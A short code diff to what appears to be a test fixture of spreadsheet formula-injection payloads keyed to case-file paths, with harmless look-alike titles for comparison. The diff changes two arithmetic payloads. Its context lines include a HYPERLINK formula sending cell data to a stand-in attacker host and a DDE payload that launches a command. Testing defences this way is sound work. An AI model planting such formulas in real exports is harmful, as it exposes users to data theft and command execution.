@@ -27,10 +27,10 @@ PAYLOADS = {
     "cases/2026/11/PML-20261103-4QX.yaml": '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
     "cases/2026/11/PML-20261103-9RD.yaml": "+cmd|' /C calc'!A0",
     "cases/2026/11/PML-20261110-8HT.yaml": "@SUM(1+1)",
-    "cases/2026/11/PML-20261116-5GW.yaml": "-2+3",
+    "cases/2026/11/PML-20261116-5GW.yaml": "-2+3+4",
     "cases/2026/11/PML-20261119-Z3E.yaml": "\tTAB di awal",
     "cases/2026/11/PML-20261124-G8Y.yaml": "\nLF di awal\n=1+1",
-    "complaints/2026/KLH-20261104-3RT.yaml": "=1+1",
+    "complaints/2026/KLH-20261104-3RT.yaml": "=1+1+1",
 }
 TWINS = {  # legitimate titles that merely contain the characters
     "cases/2026/11/PML-20261125-D2X.yaml": "Rumus a=b+c tidak dihitung @ kolom 3",
